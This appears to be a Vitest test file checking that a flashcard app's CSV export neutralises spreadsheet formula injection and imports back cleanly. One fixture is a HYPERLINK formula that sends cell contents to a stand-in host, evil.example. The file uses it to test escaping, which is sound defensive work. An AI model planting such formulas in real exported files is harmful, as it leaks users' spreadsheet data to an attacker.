import { describe, expect, it } from 'vitest';
import { parseTabular, tableToDraft } from '../import/tabular.js';
import { CSV_HEADER, csvRows, fromCsvCell } from './csv.js';

// OWASP CSV injection (issue #31): formula-leading cells leave as text, and our importer reads the
// file back to the very same cards.

const cards = [
  { term: '=HYPERLINK("http://evil.example/?"&A1,"Click")', definition: 'a link formula' },
  { term: '-ation', definition: 'a suffix' },
  { term: '+1', definition: '@home' },
  { term: '=a\nb', definition: 'multi-line formula (papaparse’s default pattern misses it)' },
  { term: '\tindented', definition: '\rcarriage' },
  { term: "'quoted already", definition: "'=already neutral" },
  { term: 'plain', definition: 'a = b, c - d' },
];

describe('CSV export formulas', () => {
  it.each([
    ['=1+1', `"'=1+1"`],
    ['-ation', `"'-ation"`],
    ['+1', `"'+1"`],
    ['@SUM(A1)', `"'@SUM(A1)"`],
    ['\tx', `"'\tx"`],
    ['=a\nb', `"'=a\nb"`],
    ['a=1', 'a=1'],
    ["'=x", `"''=x"`],
    ["'plain", `'plain`],
  ])('writes %j as %j', (term, cell) => {
    expect(csvRows([{ term, definition: 'd' }])).toBe(`${cell},d\r\n`);
  });

  it('no cell of the file starts with a formula trigger', () => {
    const text = CSV_HEADER + csvRows(cards);
    const cells = Papa_cells(text);
    expect(cells.length).toBe(2 + cards.length * 2);
    for (const cell of cells) expect(cell, JSON.stringify(cell)).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('imports back to the same cards through our CSV importer', async () => {
    const bytes = new TextEncoder().encode(CSV_HEADER + csvRows(cards));
    const draft = tableToDraft(await parseTabular(bytes, 'csv'), { term: 'term', definition: 'definition' }, 'Back');
    // The importer trims (docs/imports.md): compare with the trimmed text.
    expect(draft.cards.map((card) => [card.term, card.definition])).toEqual(cards.map((card) => [card.term.trim(), card.definition.trim()]));
  });

  it.each([
    ["'=x", '=x'],
    ["'-ation", '-ation'],
    ["'plain", "'plain"],
    ["''=x", "'=x"],
    ['=x', '=x'],
  ])('fromCsvCell(%j) is %j', (cell, text) => {
    expect(fromCsvCell(cell)).toBe(text);
  });
});

/** The file's cells as a spreadsheet reads them (RFC 4180 unquoting). */
function Papa_cells(text: string): string[] {
  const cells: string[] = [];
  let i = 0;
  while (i < text.length) {
    if (text[i] === '"') {
      let value = '';
      i += 1;
      while (i < text.length) {
        if (text[i] === '"' && text[i + 1] === '"') (value += '"'), (i += 2);
        else if (text[i] === '"') break;
        else value += text[i++];
      }
      i += 1;
      cells.push(value);
    } else {
      let end = i;
      while (end < text.length && text[end] !== ',' && text[end] !== '\r') end += 1;
      cells.push(text.slice(i, end));
      i = end;
    }
    if (text[i] === ',') i += 1;
    else if (text[i] === '\r' && text[i + 1] === '\n') i += 2;
  }
  return cells;
}
